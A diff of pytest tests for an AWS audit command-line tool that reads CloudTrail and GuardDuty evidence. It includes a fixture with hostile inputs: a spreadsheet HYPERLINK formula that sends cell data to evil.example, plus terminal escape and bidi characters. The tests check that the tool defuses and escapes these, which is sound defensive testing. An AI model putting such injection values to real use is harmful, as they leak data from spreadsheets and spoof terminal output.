@@ -11,9 +11,11 @@ import pytest
 from click.testing import CliRunner
 
 from audit_toolkit.cli import main
+from real_data import cloudtrail_record, invictus, real_data
 
 SG_FIELDS = {"event_time", "event_id", "account", "region", "group_id", "action", "direction", "protocol", "from_port",
              "to_port", "peer", "actor", "source_ip", "user_agent", "error_code"}
+INTAKE = "{} files, {} events read, {} used, 0 rejected, 0 unreadable files, 0 duplicate events counted once"
 WINDOW_FIELDS = {"group_id", "account", "region", "direction", "protocol", "from_port", "to_port", "cidr", "opened_at",
                  "opened_by", "closed_at", "closed_by", "still_open"}
 
@@ -34,6 +36,13 @@ def test_every_command_has_help(path):
     result = run(*path, "--help")
     assert result.exit_code == 0
     assert "Usage:" in result.output and len(result.output.splitlines()) > 3
+
+
+def test_help_says_what_is_read():
+    assert "from CloudTrail logs and GuardDuty findings" in " ".join(run("--help").output.split())
+    for command in ("sg-changes", "findings", "ingest"):
+        text = " ".join(run(command, "--help").output.split())
+        assert "--evidence PATH A folder of CloudTrail logs and GuardDuty findings (S3 layout or loose files)" in text
 
 
 def test_ssh_exposure_json(demo, truth):
@@ -62,6 +71,42 @@ def test_sg_changes_csv(demo, truth):
     rows = list(csv.DictReader(io.StringIO(result.stdout)))
     assert len(rows) == len(truth["sg_changes"])
     assert SG_FIELDS <= set(rows[0])
+    # Every documented value as the ground truth has it: ports as integers (22, not 22.0), all traffic as -1.
+    as_csv = lambda v: "" if v is None else str(v)  # noqa: E731
+    keys = list(truth["sg_changes"][0])
+    assert sorted([r[k] for k in keys] for r in rows) == sorted([as_csv(c[k]) for k in keys] for c in truth["sg_changes"])
+    everything = next(r for r in rows if r["protocol"] == "-1" and r["action"] == "authorize")
+    assert (everything["from_port"], everything["to_port"], everything["peer"]) == ("", "", "0.0.0.0/0")  # no ports
+
+
+def test_ssh_exposure_csv_durations_are_whole_seconds(demo):
+    result = run("ssh-exposure", "--evidence", str(demo / "evidence"), "--format", "csv")
+    bastion = next(r for r in csv.DictReader(io.StringIO(result.stdout)) if r["group_id"] == "sg-0a000000000000001")
+    assert (bastion["from_port"], bastion["to_port"], bastion["duration_seconds"]) == ("22", "22", "9015")
+
+
+def _hostile_change(tmp_path):
+    """The real tcp/22 opening, its user agent a spreadsheet formula and its error code terminal escapes."""
+    record = cloudtrail_record("AuthorizeSecurityGroupIngress", '"fromPort": 22')
+    record.update(userAgent='=HYPERLINK("http://evil.example/?"&A1)', errorCode="\x1b]0;pwned\x07Denied\u202e\x9b",
+                  errorMessage="-2+3")
+    path = tmp_path / "change.json"
+    path.write_text(json.dumps({"Records": [record]}), encoding="utf-8")
+    return path
+
+
+def test_table_shows_control_and_bidi_characters_as_escapes(tmp_path):
+    result = run("sg-changes", "--evidence", str(_hostile_change(tmp_path)))
+    assert result.stdout.splitlines()[1].split()[-1] == r"\x1b]0;pwned\x07Denied\u202e\x9b"
+    assert not any(c in result.stdout for c in "\x1b\x07\u202e\x9b")
+
+
+def test_csv_defuses_formulas_and_keeps_numbers(tmp_path):
+    result = run("sg-changes", "--evidence", str(_hostile_change(tmp_path)), "--format", "csv")
+    [row] = csv.DictReader(io.StringIO(result.stdout))
+    assert (row["user_agent"], row["error_message"]) == ("'=HYPERLINK(\"http://evil.example/?\"&A1)", "'-2+3")
+    assert (row["protocol"], row["from_port"], row["to_port"]) == ("tcp", "22", "22")
+    assert row["error_code"] == "\x1b]0;pwned\x07Denied\u202e\x9b"  # the raw value is the evidence
 
 
 def test_ssh_exposure_table_and_ports(demo):
@@ -106,6 +151,20 @@ def test_invalid_settings_are_clean_messages(tmp_path, args, env, message):
     assert result.output.strip() == message
 
 
+def test_time_arguments_are_checked_before_any_evidence_is_read(demo, tmp_path):
+    evidence = str(demo / "evidence")
+    reversed_ = CliRunner().invoke(main, ["ssh-exposure", "--evidence", evidence, "--since", "2026-11-05", "--until", "2026-11-04"])
+    assert (reversed_.exit_code, reversed_.output) == (
+        1, "Error: --since 2026-11-05T00:00:00Z is not before --until 2026-11-04T00:00:00Z: the time range is empty\n")
+    typo = CliRunner().invoke(main, ["detect", "--evidence", evidence, "--until", "2026-13-01"])
+    assert (typo.exit_code, typo.output) == (  # no intake line: nothing was scanned
+        1, "Error: --since/--until must be an ISO 8601 time such as 2026-11-03T09:00:00Z, got '2026-13-01'\n")
+    zone = CliRunner().invoke(main, ["report", "--evidence", evidence, "--out", str(tmp_path / "r"), "--tz", "Mars/Olympus"])
+    assert (zone.exit_code, zone.output) == (
+        1, "Error: unknown display time zone 'Mars/Olympus': use an IANA name such as Asia/Tokyo\n")
+    assert not (tmp_path / "r").exists()
+
+
 def test_detect_json_only_and_severity(demo, truth):
     result = run("detect", "--evidence", str(demo / "evidence"), "--only", "cloudtrail_stopped", "--format", "json")
     rows = json.loads(result.stdout)
@@ -128,6 +187,38 @@ def test_coverage_table(demo, truth):
     rows = json.loads(result.stdout)
     assert [r["kind"] for r in rows].count("no_events") == len(truth["detections"]["gaps"])
     assert {r["trail"] for r in rows if r["kind"] != "no_events"} == {"org-trail", "staging-trail"}
+    # 13:59 to 17:00 is 3.0166... hours: shown to two decimals, the exact times beside them
+    stopped = next(r for r in rows if r["kind"] == "logging_stopped")
+    assert (stopped["start"], stopped["end"], stopped["hours"]) == ("2026-11-04T13:59:00Z", "2026-11-04T17:00:00Z", 3.02)
+    table = run("coverage", "--evidence", str(demo / "evidence")).stdout.splitlines()
+    assert [line.split()[5] for line in table[1:]] == ["0.05", "3.0", "3.02", "3.0", "3.0", "3.0"]
+
+
+def test_a_single_file_is_read_by_its_own_reader():
+    trail = invictus() / "218007301253_CloudTrail_us-east-1_20230710T1240Z_C1qUFaqvZS64BcIN.json"
+    result = run("findings", "--evidence", str(trail))
+    assert result.stderr == f"evidence {trail}: {INTAKE.format(1, 2, 2)}\n"  # no GuardDuty line: nothing read as findings
+    assert result.stdout == "(none)\n"
+    found = real_data() / "elastic-integrations-aws" / "guardduty" / "test-guardduty.log"
+    result = run("findings", "--evidence", str(found), "--format", "json")
+    assert result.stderr.splitlines() == [
+        f"evidence {found}: {INTAKE.format(0, 0, 0)}",
+        f"GuardDuty findings: {INTAKE.format(1, 5, 5)}",
+        f"  {found}: read 5, used 5, rejected 0: an empty page of findings ({{'findings': []}})",
+    ]
+    assert [(f["severity"], f["type"]) for f in json.loads(result.stdout)] == [
+        (8.0, "Persistence:Kubernetes/SuccessfulAnonymousAccess"), (8.0, "CredentialAccess:RDS/AnomalousBehavior.SuccessfulLogin"),
+        (5.0, "Discovery:Kubernetes/TorIPCaller"), (5.0, "Trojan:EC2/BlackholeTraffic!DNS"),
+        (5.0, "PrivilegeEscalation:Runtime/DockerSocketAccessed")]
+
+
+def test_a_loose_folder_reads_get_findings_output_as_findings(tmp_path):
+    finding = json.loads((real_data() / "elastic-integrations-aws" / "guardduty" / "test-guardduty.log").read_text().splitlines()[0])
+    (tmp_path / "findings.json").write_text(json.dumps({"Findings": [finding]}))
+    (tmp_path / "trail.log").symlink_to(real_data() / "elastic-integrations-aws" / "cloudtrail" / "test-authorize-security-group-ingress-json.log")
+    result = run("findings", "--evidence", str(tmp_path), "--format", "json")
+    assert result.stderr.splitlines() == [f"evidence {tmp_path}: {INTAKE.format(1, 1, 1)}", f"GuardDuty findings: {INTAKE.format(1, 1, 1)}"]
+    assert [f["id"] for f in json.loads(result.stdout)] == [finding["id"]]
 
 
 @pytest.mark.parametrize("bound", ["high", "7"])
